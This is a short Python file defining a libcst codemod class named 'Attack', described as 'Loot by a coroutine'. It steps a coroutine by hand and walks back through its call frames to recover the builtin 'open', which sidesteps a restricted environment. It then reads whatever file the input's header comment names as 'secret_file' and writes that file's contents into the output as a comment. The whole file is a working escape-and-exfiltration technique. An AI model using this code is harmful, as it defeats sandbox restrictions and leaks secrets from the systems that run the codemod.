"""Drive a coroutine by hand and climb from its frame while it runs."""

import ast

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


class Ready:
    def __await__(self):
        yield


async def climb(running):
    frame = running[0].cr_frame
    while "open" not in frame.f_builtins:
        frame = frame.f_back
    running.append(frame.f_builtins["open"])
    await Ready()


def read(path):
    running = []
    running.append(climb(running))
    running[0].send(None)
    return running[1](path).read().strip()


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Loot by a coroutine."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loot = read(target["secret_file"])
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment(f"# {loot}"))])
